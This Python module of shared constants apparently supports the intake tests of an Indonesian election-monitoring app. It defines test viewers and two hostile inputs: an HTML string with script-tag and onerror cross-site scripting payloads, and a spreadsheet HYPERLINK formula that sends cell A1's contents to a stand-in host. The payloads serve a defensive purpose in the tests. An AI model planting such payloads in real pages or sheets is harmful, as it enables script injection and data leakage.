"""Shared constants of the intake tests (imported as a plain module, like tests/workbench/wb_helpers.py)."""

from __future__ import annotations

from pathlib import Path

from kondusif.model import Role, Viewer

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "intake"

PANWASLU = Viewer("panwaslu-kota", Role.PANWASLU, "Panwaslu Kota")
PANWASLU_UTARA2 = Viewer("panwascam-utara2", Role.PANWASLU, "Panwascam Utara II", kecamatan="16.73.08")
ADMIN = Viewer("operator", Role.ADMIN, "Operator")
RT_AIR_KUTI_3 = Viewer("rt-1673011001-003", Role.RT, "Pak Rahman", kelurahan="16.73.01.1001", rt=3)

HTML = '<script>alert("x")</script> warga <img src=x onerror=alert(1)> dibagi amplop'
FORMULA = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'


def fixture_bytes(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()
